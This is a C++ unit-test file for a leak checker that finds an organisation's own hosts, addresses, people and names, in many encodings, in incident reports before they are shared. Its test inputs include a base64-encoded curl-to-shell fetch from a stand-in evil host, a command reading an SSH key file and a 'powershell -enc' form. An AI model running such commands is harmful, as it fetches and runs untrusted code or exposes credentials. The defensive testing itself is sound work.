#include "node/anonymize/leak_lint.h"

#include <chrono>
#include <functional>
#include <map>

#include <gtest/gtest.h>

#include "node/anonymize/decode.h"
#include "node/anonymize/punycode.h"
#include "node/base/encoding.h"
#include "tests/unit/anonymize/test_assets.h"

namespace renkei::anonymize {
namespace {

const OwnAssets& Own() {
  static const OwnAssets own(TestAssets());
  return own;
}

std::vector<Finding> Lint(const record::Draft& draft) {
  record::AnonymizedDraft::EncodedSections encoded;
  for (std::size_t i = 0; i < encoded.size(); ++i) {
    encoded[i] = record::EncodeSection(draft.sections, static_cast<policy::SectionId>(i));
  }
  return LeakLint(Own()).Check(draft.header, encoded);
}

std::vector<std::string> Rules(const std::string& text) {
  std::vector<std::string> rules;
  for (const Finding& finding : Lint(DraftOfText(text))) {
    if (finding.severity == FindingSeverity::kRefuse) rules.push_back(finding.rule);
  }
  return rules;
}

bool Holds(const std::vector<std::string>& rules, const std::string& rule) {
  return std::find(rules.begin(), rules.end(), rule) != rules.end();
}

// ---- forms -----------------------------------------------------------------------------------

std::string Replaced(std::string text, const std::string& from, const std::string& to) {
  for (std::size_t at = text.find(from); at != std::string::npos;
       at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
  return text;
}

std::string EachByte(const std::string& text, const std::function<std::string(unsigned)>& form) {
  std::string out;
  for (const char c : text) out += form(static_cast<unsigned char>(c));
  return out;
}

std::string Utf16(const std::string& text, bool little) {
  std::string out;
  for (std::size_t at = 0; at < text.size();) {
    const Utf8Char c = DecodeUtf8(text, at);
    const char low = static_cast<char>(c.code & 0xff);
    const char high = static_cast<char>(c.code >> 8);
    out += little ? std::string{low, high} : std::string{high, low};
    at += c.length;
  }
  return out;
}

std::string Upper(std::string text) {
  for (char& c : text) c = c >= 'a' && c <= 'z' ? static_cast<char>(c - 0x20) : c;
  return text;
}

std::string FullWidth(const std::string& text) {
  return EachByte(text, [](unsigned c) {
    std::string out;
    if (c > 0x20 && c < 0x7f) {
      AppendUtf8(c + 0xfee0, out);
    } else {
      out.push_back(static_cast<char>(c));
    }
    return out;
  });
}

// The middle of the text, at the start of a character.
std::size_t Middle(const std::string& text) {
  std::size_t at = text.size() / 2;
  while ((static_cast<unsigned char>(text[at]) & 0xc0U) == 0x80U) ++at;
  return at;
}

std::string Insert(std::string text, const std::string& piece) {
  return text.insert(Middle(text), piece);
}

struct Form {
  std::string name;
  std::function<std::string(const std::string&)> apply;
  bool ascii_only = false;
  bool needs_dot = false;
};

std::vector<Form> Forms() {
  return {
      {"plain", [](const auto& t) { return "Seen on " + t + " today."; }},
      {"alone", [](const auto& t) { return t; }},
      {"quoted", [](const auto& t) { return "(\"" + t + "\")"; }},
      {"in_url", [](const auto& t) { return "https://" + t + "/login?x=1"; }},
      {"in_url_query",
       [](const auto& t) { return "http://a.example.net/?u=http%3A%2F%2F" + t + "%2Fx"; }},
      {"upper_case", [](const auto& t) { return "Seen on " + Upper(t) + "."; }},
      {"full_width", [](const auto& t) { return "対象は" + FullWidth(t) + "です"; }},
      {"japanese_sentence", [](const auto& t) { return "昨日、" + t + "に接続がありました。"; }},
      {"defanged", [](const auto& t) { return "hxxp://" + Replaced(t, ".", "[.]") + "/"; }, false,
       true},
      {"defanged_word", [](const auto& t) { return Replaced(t, ".", "(dot)"); }, false, true},
      {"defanged_last",
       [](const auto& t) {
         return std::string(t).insert(t.rfind('.'), "[").insert(t.rfind('.') + 2, "]");
       },
       false, true},
      {"regex_escaped", [](const auto& t) { return Replaced(t, ".", "\\."); }, false, true},
      {"soft_hyphen", [](const auto& t) { return Insert(t, "\u00ad"); }},
      {"zero_width", [](const auto& t) { return Insert(t, "\u200b"); }},
      {"base64", [](const auto& t) { return "cmd " + Base64Encode(t) + " end"; }},
      {"base64_of_sentence",
       [](const auto& t) { return "x=" + Base64Encode("connect to " + t + " now") + ";"; }},
      {"base64_glued",
       [](const auto& t) {
         return "payloadA" + Base64Encode("GET http://" + t + "/ HTTP/1.1 and more");
       }},
      {"base64_twice", [](const auto& t) { return Base64Encode(Base64Encode("to " + t)); }},
      {"base64_wrapped",
       [](const auto& t) {
         std::string encoded = Base64Encode("some long line before it: " + t + " and after it");
         return encoded.insert(38, "\r\n");
       }},
      {"utf16_base64",
       [](const auto& t) { return "powershell -enc " + Base64Encode(Utf16("ping " + t, true)); }},
      {"utf16_big_base64", [](const auto& t) { return Base64Encode(Utf16("ping " + t, false)); }},
      {"hex", [](const auto& t) { return "0x" + HexEncode(t) + " "; }},
      {"hex_spaced",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("{:02X} ", c); });
       }},
      {"hex_escaped",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("\\x{:02x}", c); });
       }},
      {"url_encoded",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("%{:02X}", c); });
       }},
      {"url_encoded_twice",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("%25{:02X}", c); });
       }},
      {"html_entities",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("&#x{:x};", c); });
       },
       true},
      {"json_escaped",
       [](const auto& t) {
         return EachByte(t, [](unsigned c) { return fmt::format("\\u{:04x}", c); });
       },
       true},
      {"line_break", [](const auto& t) { return Insert("log: " + t, "\n  "); }},
      {"base64_in_url",
       [](const auto& t) {
         return "https://x.example.net/r/" + Base64Encode("id=" + t) + "/pixel.gif";
       }},
  };
}

struct Value {
  std::string name;
  std::string text;
  std::string rule;
};

std::vector<Value> Values() {
  return {{"domain", "hinode-bank.example", "own-host"},
          {"host", "portal.hinode-bank.example", "own-host"},
          {"idn", "www.ひので.example", "own-host"},
          {"ipv4", "203.0.113.77", "own-address"},
          {"inside_ipv4", "10.20.30.40", "own-address"},
          {"ipv6", "2001:db8:77::15a", "own-address"},
          {"network", "203.0.113.0/25", "own-network"},
          {"mail", "j.suzuki@hinode-mail.example", "own-mail"},
          {"name", "Hinode Bank", "own-organization"},
          {"name_ja", "ひので銀行", "own-organization"},
          {"short_name", "HNB", "own-organization"},
          {"product", "HinodePay", "own-product"},
          {"site", "汐見データセンター", "own-site"},
          {"person", "Taro Yamada", "own-person"},
          {"person_swapped", "Yamada Taro", "own-person"},
          {"person_ja", "山田太郎", "own-person"},
          {"host_pattern", "srv-mail01", "own-host"},
          {"host_name", "fileserv1", "own-host"},
          {"user_pattern", "hnb00123", "own-user"},
          {"user_name", "t.yamada", "own-user"}};
}

// Pairs that make no sense, or that docs/anonymity.md names as not found.
bool Skipped(const Value& value, const Form& form) {
  const bool has_dot = value.text.find('.') != std::string::npos;
  const bool ascii = std::none_of(value.text.begin(), value.text.end(),
                                  [](char c) { return static_cast<unsigned char>(c) >= 0x80; });
  const bool blank = value.text.find(' ') != std::string::npos;
  const bool shortest = value.name == "short_name";
  if (form.needs_dot && !has_dot) return true;
  if (form.ascii_only && !ascii) return true;
  if (form.name == "in_url" && value.name == "network") return true;  // host and path
  if (form.name == "in_url_query" && value.name == "network") return true;
  if (form.name == "defanged" && value.name == "network") return true;
  if (form.name == "base64_glued" && value.name == "network") return true;
  if (form.name.starts_with("in_url") && blank) return true;
  if (form.name == "soft_hyphen" && shortest) return false;
  // Three letters give four base64 characters or six hex digits: below what is decoded.
  if (shortest && (form.name == "base64" || form.name.starts_with("hex"))) return true;
  // A short name is no word of its own in the middle of a line break.
  return form.name == "line_break" && (shortest || value.name == "person_ja" || blank);
}

struct LeakRow {
  Value value;
  Form form;
};
void PrintTo(const LeakRow& row, std::ostream* out) {
  *out << row.value.name << "_" << row.form.name;
}

std::vector<LeakRow> Rows() {
  std::vector<LeakRow> rows;
  for (const Value& value : Values()) {
    for (const Form& form : Forms()) {
      if (!Skipped(value, form)) rows.push_back({value, form});
    }
  }
  return rows;
}

class LeakLintFindsTest : public ::testing::TestWithParam<LeakRow> {};

TEST_P(LeakLintFindsTest, TheOwnAssetInThisForm) {
  const std::string text = GetParam().form.apply(GetParam().value.text);
  const std::vector<std::string> rules = Rules(text);
  EXPECT_TRUE(Holds(rules, GetParam().value.rule))
      << text << "\nfound: " << ::testing::PrintToString(rules);
}

INSTANTIATE_TEST_SUITE_P(Forms, LeakLintFindsTest, ::testing::ValuesIn(Rows()),
                         [](const auto& row) {
                           return row.param.value.name + "_" + row.param.form.name;
                         });

struct TextRow {
  std::string name;
  std::string text;
  std::string rule;
};
void PrintTo(const TextRow& row, std::ostream* out) { *out << row.name; }

class LeakLintTextTest : public ::testing::TestWithParam<TextRow> {};

TEST_P(LeakLintTextTest, HasExactlyThisRule) {
  std::vector<std::string> expected;
  if (!GetParam().rule.empty()) expected.push_back(GetParam().rule);
  EXPECT_EQ(Rules(GetParam().text), expected) << GetParam().text;
}

INSTANTIATE_TEST_SUITE_P(
    Found, LeakLintTextTest,
    ::testing::Values(
        TextRow{"reversed_arpa", "PTR 77.113.0.203.in-addr.arpa", "own-address"},
        TextRow{"reversed_arpa_wide", "40.30.20.10.in-addr.arpa", "own-address"},
        TextRow{"reversed_block_list", "77.113.0.203.bl.example.net", "own-address"},
        TextRow{"reversed_alone", "seen 77.113.0.203 there", "own-address"},
        TextRow{"reversed_ip6",
                "5.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.7.7.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
                "own-address"},
        TextRow{"decimal", "http://3405803853/x", "own-address"},
        TextRow{"decimal_alone", "address 3405803853.", "own-address"},
        TextRow{"hexadecimal", "http://0xcb00714d/", "own-address"},
        TextRow{"hexadecimal_dotted", "0xCB.0x00.0x71.0x4D", "own-address"},
        TextRow{"octal", "0313.0000.0161.0115", "own-address"},
        TextRow{"zero_padded", "203.000.113.077", "own-address"},
        TextRow{"octal_number", "031300070515", "own-address"},
        TextRow{"mapped_v6", "::ffff:203.0.113.77", "own-address"},
        TextRow{"v6_long_form", "2001:0DB8:0077:0000:0000:0000:0000:0001", "own-address"},
        TextRow{"v6_in_brackets", "http://[2001:db8:77::1]:8080/", "own-address"},
        TextRow{"wider_network", "203.0.112.0/22 is blocked", "own-network"},
        TextRow{"punycode", "see www." + *DomainToAscii("ひので.example"), "own-host"},
        TextRow{"punycode_of_a_name", "x." + *LabelToAscii("ひので銀行") + ".example.net",
                "own-organization"},
        TextRow{"spaced_letters", "h i n o d e - b a n k . e x a m p l e", "own-host"},
        TextRow{"blank_in_a_name", "the Hino deBank case", "own-organization"},
        TextRow{"split_address", "from 203.0.\n113.77 on", "own-address"},
        TextRow{"half_width_katakana", "汐見ﾃﾞｰﾀｾﾝﾀｰ", "own-site"},
        TextRow{"name_in_adversary_domain", "https://hinodepay-login.example.net/", "own-product"},
        TextRow{"home_folder", R"(C:\Users\m.sato\Desktop\a.exe)", "own-user"},
        TextRow{"home_folder_unix", "cat /home/msato/.ssh/id", "own-user"},
        TextRow{"unc_host", R"(copied to \\PC0042\c$\temp)", "own-host"},
        TextRow{"sid", "S-1-5-21-1004336348-1177238915-682003330-512", "own-user"},
        TextRow{"account", R"(HNB\msato logged on)", "own-user"},
        TextRow{"private_address", "from 192.168.7.9", "own-address"},
        TextRow{"private_network", "192.168.7.0/24", "own-network"}),
    [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Clean, LeakLintTextTest,
    ::testing::Values(
        TextRow{"adversary_domain", "beacon to update.evil-cdn.example.net", ""},
        TextRow{"adversary_address", "198.51.100.77 and 192.0.2.5", ""},
        TextRow{"adversary_v6", "2001:db8:78::1 and 2001:db8::77", ""},
        TextRow{"version_of_three", "openssl 10.20.1 and 203.0.113", ""},
        TextRow{"version_with_v", "v10.20.30.40", ""},
        TextRow{"version_of_five", "203.0.113.77.1", ""},
        TextRow{"whole_private_block", "10.0.0.0/8 is private", ""},
        TextRow{"sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", ""},
        TextRow{"md5", "d41d8cd98f00b204e9800998ecf8427e", ""},
        TextRow{"unix_time", "at 1718000000 and 1718000000123", ""},
        TextRow{"look_alike_short", "hnbx and xhnb and thnb1", ""},
        TextRow{"look_alike_domain", "nothinode-bank.examples", ""},
        TextRow{"short_site_in_a_word", "関東汐見野", ""},
        TextRow{"stand_ins", "HOST-1, NET-2, USER-3@ORG, ORG, SITE-1, PRODUCT-4, USER-5", ""},
        TextRow{"english_prose",
                "The adversary sent invoices to at least ten teams; the attachment drops a loader "
                "that connects to its server every hour and waits for further instructions.",
                ""},
        TextRow{"japanese_prose", "攻撃者は請求書を装ったメールを送付し、添付ファイルを開かせた。",
                ""},
        TextRow{"public_home", R"(C:\Users\Public\run.exe and %USERPROFILE%\x)", ""},
        TextRow{"web_path", "http://a.example.net/home/index.php and /users/login.php", ""},
        TextRow{"registry", R"(HKLM\Software\Microsoft\Windows\CurrentVersion\Run)", ""},
        TextRow{"well_known_sid", "S-1-5-18", ""}, TextRow{"pipe", R"(\\.\pipe\msagent)", ""},
        TextRow{"adversary_share", R"(\\203.0.112.9@80\share\x)", ""},
        TextRow{"base64_of_others", Base64Encode("curl http://evil.example.net/a.sh | sh"), ""},
        TextRow{"cpe", "cpe:2.3:a:vendor:product:1.2.3.4:*:*:*:*:*:*:*", ""},
        TextRow{"punycode_of_others", "xn--bcher-kva.example.net xn--zzzzzz-", ""},
        TextRow{"reversed_wide", "198.51.100.10", ""}),
    [](const auto& row) { return row.param.name; });

// ---- behaviour -------------------------------------------------------------------------------

TEST(LeakLintTest, AFindingNamesPlaceAndRuleAndNeverTheValue) {
  record::Draft draft;
  auto& indicators = *draft.sections.mutable_indicators();
  for (int i = 0; i < 4; ++i) {
    auto& indicator = *indicators.add_indicators();
    indicator.set_type(record::v1::INDICATOR_TYPE_TEXT);
    indicator.set_value("x");
  }
  indicators.mutable_indicators(3)->mutable_comment()->set_value("on portal.hinode-bank.example");
  const std::vector<Finding> findings = Lint(draft);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].section, policy::SectionId::kIndicators);
  EXPECT_EQ(ToString(findings[0]),
            "indicators.indicators[3].comment.value: rule own-host: take it out, or write a "
            "stand-in such as HOST-1, USER-1 or ORG");
}

TEST(LeakLintTest, HeaderLabelsAreSearched) {
  record::Draft draft;
  draft.header.tags = {"ransomware", "hinode-bank"};
  draft.header.sectors = {"hnb"};
  std::vector<std::string> lines;
  for (const Finding& finding : Lint(draft)) lines.push_back(finding.place);
  // The tag is a part of an own name only; the sector is one.
  EXPECT_EQ(lines, (std::vector<std::string>{"header.sectors[0]"}));
}

TEST(LeakLintTest, ASectionThatCannotBeDecodedIsRefused) {
  record::AnonymizedDraft::EncodedSections encoded;
  encoded[1] = "\xff\xff\xff";
  const auto findings = LeakLint(Own()).Check({}, encoded);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].rule, "undecodable");
}

TEST(LeakLintTest, FindingsAreBounded) {
  record::Draft draft;
  for (std::size_t i = 0; i < kFindingsMax + 5; ++i) {
    draft.sections.mutable_summary()->add_labels("HNB");
  }
  EXPECT_EQ(Lint(draft).size(), kFindingsMax);
}

std::string Noise(std::size_t size, std::uint32_t seed) {
  std::string noise;
  while (noise.size() < size) {
    seed = seed * 1664525U + 1013904223U;
    noise.push_back(static_cast<char>(seed >> 24));
  }
  return noise;
}

record::Draft LargeDraft(const std::function<std::string(std::uint32_t)>& text) {
  record::Draft draft;
  for (std::uint32_t i = 0; i < 4; ++i) {
    draft.sections.mutable_log_excerpts()->add_excerpts()->set_text(text(i));
    draft.sections.mutable_detection_rules()->add_rules()->set_body(text(i + 4));
    draft.sections.mutable_summary()->add_description()->set_value(text(i + 8));
  }
  return draft;
}

TEST(LeakLintTest, ThreeMebibytesOfBase64AreSearchedWhole) {
  const auto started = std::chrono::steady_clock::now();
  EXPECT_EQ(Lint(LargeDraft([](std::uint32_t i) { return Base64Encode(Noise(190'000, i)); })),
            std::vector<Finding>{});
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - started;
  std::cout << "3 MiB of base64: " << took.count() << " s\n";
}

TEST(LeakLintTest, HostileTextsStayWithinTheirBudget) {
  const std::vector<std::string> pieces = {"a.", "1.",     "0x",      "xn--", "%41",
                                           "\\", ":",      "QUJD/",   "61 ",  "&#",
                                           "@",  "/home/", "\\\\a\\", " . "};
  for (const std::string& piece : pieces) {
    const auto started = std::chrono::steady_clock::now();
    Lint(LargeDraft([&](std::uint32_t) {
      std::string text;
      while (text.size() + piece.size() < 250'000) text += piece;
      return text;
    }));
    const std::chrono::duration<double> took = std::chrono::steady_clock::now() - started;
    std::cout << "3 MiB of `" << piece << "`: " << took.count() << " s\n";
  }
}

TEST(LeakLintTest, DeeplyNestedEncodingEndsAtTheNamedDepth) {
  std::string text = "to hinode-bank.example";
  for (int depth = 1; depth <= kDecodeDepthMax; ++depth) {
    text = Base64Encode(text);
    EXPECT_TRUE(Holds(Rules(text), "own-host")) << depth;
  }
  EXPECT_EQ(Rules(Base64Encode(text)), std::vector<std::string>{});
}

}  // namespace
}  // namespace renkei::anonymize
